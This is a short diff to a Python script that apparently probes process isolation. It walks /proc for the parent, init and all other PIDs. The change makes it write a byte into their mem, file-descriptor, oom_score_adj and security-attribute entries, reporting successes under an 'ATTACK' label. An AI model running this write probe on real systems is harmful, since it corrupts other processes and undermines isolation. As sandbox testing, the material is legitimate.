@@ -24,8 +24,9 @@ for pid in {os.getppid(), 1} | {int(n) for n in os.listdir("/proc") if n.isdigit
     os.close(handle)
     for name in ("mem", "fd/0", "fd/1", "fd/3", "fd/4", "clear_refs", "oom_score_adj", "coredump_filter", "timerslack_ns", "attr/current"):
         try:
-            with open(f"/proc/{pid}/{name}", "r+b"):
-                reached.append(f"/proc/{pid}/{name}")
+            with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
+                file.write(b"0")
+            reached.append(f"/proc/{pid}/{name}")
         except OSError:
             pass
 print("ATTACK", json.dumps({"reached": reached}), flush=True)
